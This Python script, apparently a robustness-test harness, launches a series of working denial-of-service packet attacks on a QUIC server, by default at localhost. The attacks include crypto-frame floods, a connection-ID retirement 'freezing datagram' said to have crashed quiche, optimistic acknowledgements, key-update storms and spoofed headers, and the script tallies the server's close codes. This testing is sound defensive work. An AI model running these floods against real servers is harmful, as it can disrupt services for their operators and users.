"""Attacks on a QUIC server: reads one task as JSON from standard input and prints what it did.

    {"attack": "crypto-initial", "host": "127.0.0.1", "port": 5001, "serverName": "localhost",
     "cert": "node.pem", "key": "node.key", "seconds": 2}

An attack is where it starts (`initial`: only the first packet was sent; `handshake`: the server has
answered; `connected`) and the packets that it then sends without end. When the server closes the
connection, the next one begins. The answer counts what was sent and with which codes (`closed_10`:
PROTOCOL_VIOLATION) the server closed.
"""

import itertools
import json
import os
import random
import sys
import time

from aioquic.quic.crypto import apply_key_phase, next_key_phase
from aioquic.tls import Epoch

from peer import Peer, fresh_socket, varint

BURST = 32
CRYPTO, STREAM = 0x06, 0x0E
PING = b"\x01"
FRAMES_BYTES = 1100


def filled(frames):
    """As many of the frames as fit into one packet, again and again."""
    packet = b""
    for frame in frames:
        if len(packet) + len(frame) > FRAMES_BYTES:
            yield packet
            packet = b""
        packet += frame


def crypto_frame(offset, data):
    return bytes([CRYPTO]) + varint(offset) + varint(len(data)) + data


def crypto_flood(epoch):
    """Handshake bytes that never become whole: small gaps within the bound, then large ones past it."""

    def packets(peer, turn):
        if turn % 2 == 0:
            holes = (crypto_frame(3000 + 2 * i % 12000, b"x") for i in itertools.count())
            return ((epoch, frames) for frames in filled(holes))
        return ((epoch, crypto_frame(3000 + 1000 * i, b"x" * 1000)) for i in itertools.count())

    return packets


def each(frames):
    """One packet for each of the frames, which a function of the packet's number makes."""

    def packets(peer, turn):
        return ((Epoch.ONE_RTT, frames(i)) for i in itertools.count())

    return packets


def many(frames):
    """Packets full of frames."""

    def packets(peer, turn):
        return ((Epoch.ONE_RTT, packet) for packet in filled(frames(i) for i in itertools.count()))

    return packets


def new_connection_id(sequence, retire_prior_to):
    name = sequence.to_bytes(8, "big")
    return b"\x18" + varint(sequence) + varint(retire_prior_to) + b"\x08" + name + os.urandom(16)


def freeze(i):
    """The datagram that ended quiche: retires every id in use, again and again."""
    return new_connection_id(i + 1, i + 1)


def unsent_ack(i):
    return b"\x02" + varint(1_000_000 + i) + varint(0) + varint(0) + varint(0)


def optimistic_ack(peer, turn):
    """Asks for echoes and acknowledges them before they can have come."""
    ack = lambda number: b"\x02" + varint(number) + varint(0) + varint(0) + varint(number)
    for i in itertools.count():
        data = os.urandom(1000)
        stream = bytes([STREAM]) + varint(0) + varint(1000 * i) + varint(len(data)) + data
        yield Epoch.ONE_RTT, stream + ack(4 * i + 8)


def stream_frame(stream, offset, data):
    return bytes([STREAM]) + varint(stream) + varint(offset) + varint(len(data)) + data


def limit_games(i):
    """Limits that shrink, that are absurd, and complaints about limits that nobody reached."""
    return [
        b"\x10" + varint(2**62 - 1 - i),
        b"\x12" + varint(2**60 - i % 1000),
        b"\x14" + varint(i),
        b"\x15" + varint(0) + varint(i),
        b"\x16" + varint(i),
        b"\x17" + varint(i),
        b"\x11" + varint(4 * (i % 16)) + varint(i),
    ][i % 7]


def key_updates(peer, turn):
    """New keys with every packet."""
    for _ in itertools.count():
        crypto = peer.connection._cryptos[Epoch.ONE_RTT].send
        apply_key_phase(crypto, next_key_phase(crypto), "attack")
        yield Epoch.ONE_RTT, PING


def migrations(peer, turn):
    """Every packet comes from another port, which is never heard of again."""
    for i in itertools.count():
        peer.socket.close()
        peer.socket = fresh_socket(peer.server)
        yield Epoch.ONE_RTT, b"\x1a" + os.urandom(8) + PING


def zero_rtt(peer, turn):
    return ((Epoch.ZERO_RTT, bytes(1000)) for _ in itertools.count())


CONNECTED = {
    "freezing-datagram": each(freeze),
    "pending-retirements": many(lambda i: new_connection_id(4 + i, 1 + i)),
    "many-ids": many(lambda i: new_connection_id(1 + i, 0)),
    "retired-ids": each(lambda i: b"\x19" + varint(1 + i)),
    "unsent-acks": each(unsent_ack),
    "optimistic-acks": optimistic_ack,
    "stream-gaps": many(lambda i: stream_frame(0, 2 * i + 1, b"x")),
    "streams-beyond-limit": each(lambda i: stream_frame(4 * (100 + i), 0, b"x")),
    "bytes-beyond-window": each(lambda i: stream_frame(0, 2**40 + i, b"x")),
    "final-sizes": many(lambda i: b"\x04" + varint(0) + varint(0) + varint(10 + i)),
    "limit-games": many(limit_games),
    "max-data-of-unopened": each(lambda i: b"\x11" + varint(1) + varint(i)),
    "path-challenges": many(lambda i: b"\x1a" + os.urandom(8)),
    "pings": each(lambda i: PING),
    "servers-frames": each(lambda i: b"\x1e" if i % 2 else b"\x07\x01x"),
    "unknown-frames": each(lambda i: varint(0x30 + i % 1000)),
    "key-updates": key_updates,
    "migrations": migrations,
    "crypto-1rtt": crypto_flood(Epoch.ONE_RTT),
}
STAGES = {
    "crypto-initial": ("initial", crypto_flood(Epoch.INITIAL)),
    "zero-rtt": ("initial", zero_rtt),
    "crypto-handshake": ("handshake", crypto_flood(Epoch.HANDSHAKE)),
    **{name: ("connected", packets) for name, packets in CONNECTED.items()},
}


def attack_connections(task, figures, deadline):
    stage, packets = STAGES[task["attack"]]
    for turn in itertools.count():
        if time.monotonic() >= deadline:
            return
        peer = Peer(task)
        figures["connections"] += 1
        is_ready = peer.handshake() if stage == "connected" else peer.start(stage == "handshake")
        if is_ready:
            figures["ready"] += 1
            fire(peer, packets(peer, turn), deadline)
        peer.close()
        figures["packets"] += peer.packets
        figures["bytesSent"] += peer.bytes_sent
        figures["bytesReceived"] += peer.bytes_received
        if peer.is_closed:
            code = f"closed_{peer.close_code}"
            figures[code] = figures.get(code, 0) + 1


def fire(peer, packets, deadline):
    """Until the server has had enough, or for at most a second: some never end by themselves."""
    deadline = min(deadline, time.monotonic() + 1)
    for sent, (epoch, frames) in enumerate(packets):
        peer.send_frames(epoch, frames)
        if sent % BURST:
            continue
        peer.receive(0.001)
        if peer.is_closed or time.monotonic() >= deadline:
            break
    peer.receive(0.05)


def attack_headers(task, figures, deadline):
    """Packets that belong to nothing: each may be answered, with less than three times its bytes."""
    server = (task["host"], task["port"])
    one = fresh_socket(server)
    while time.monotonic() < deadline:
        for _ in range(BURST):
            datagram = HEADERS[task["attack"]]()
            figures["packets"] += 1
            figures["bytesSent"] += len(datagram)
            try:
                one.send(datagram)
            except OSError:
                pass
        time.sleep(0.001)
        try:
            while True:
                figures["bytesReceived"] += len(one.recv(65536))
        except OSError:
            continue


def unknown_version():
    version = random.choice([0x0A0A0A0A, 0x6B3343CF, 0xFFFFFFFF, 2]).to_bytes(4, "big")
    return (b"\xc3" + version + b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8)).ljust(1200, b"\0")


HEADERS = {
    "unknown-versions": unknown_version,
    "unknown-connections": lambda: b"\x41" + os.urandom(random.randrange(24, 1200)),
}


def main():
    task = json.load(sys.stdin)
    figures = {"connections": 0, "ready": 0, "packets": 0, "bytesSent": 0, "bytesReceived": 0}
    deadline = time.monotonic() + task["seconds"]
    run = attack_headers if task["attack"] in HEADERS else attack_connections
    run(task, figures, deadline)
    print(json.dumps(figures))


main()
